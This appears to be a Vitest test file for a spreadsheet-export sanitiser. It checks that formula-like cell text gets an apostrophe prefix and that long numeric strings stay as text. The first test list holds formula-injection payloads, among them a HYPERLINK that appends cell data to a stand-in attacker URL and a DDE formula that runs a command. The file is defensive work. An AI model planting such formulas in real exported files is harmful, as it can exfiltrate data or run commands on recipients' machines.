import { expect, it, test } from 'vitest';
import { spreadsheetText } from './spreadsheet-text';

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u3000=1+1',
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM',
  '=',
  '-',
])('%j would be run as a formula, so an apostrophe goes before it', (text) => {
  expect(spreadsheetText(text)).toBe(`'${text}`);
});

test.each([
  '12345678901234567890',
  '1234567890123456',
  '007',
  '00',
  '1e5',
  '12345678901234567890123456789e12',
  '1.5E3',
])('%j would lose digits as a number, so it stays text', (text) => {
  expect(spreadsheetText(text)).toBe(`'${text}`);
});

test.each([
  '',
  'a=1',
  'take -5',
  '0',
  '42',
  '1.5',
  '123456789012345',
  'bb1dfa20a0c971f08c94e7f6d6496202',
  'icepublic-bb1dfa20a0c971f08c94e7f6d6496202',
  '2026-03-31T10:00:00.000Z',
  "it's",
  '媒资',
])('%j is left as it is', (text) => {
  expect(spreadsheetText(text)).toBe(text);
});

it('takes time in proportion to the text, whatever the text', () => {
  const begin = performance.now();
  spreadsheetText(' '.repeat(200_000));
  spreadsheetText('1'.repeat(200_000));
  spreadsheetText(`${'1.'.repeat(100_000)}x`);
  expect(performance.now() - begin).toBeLessThan(500);
});
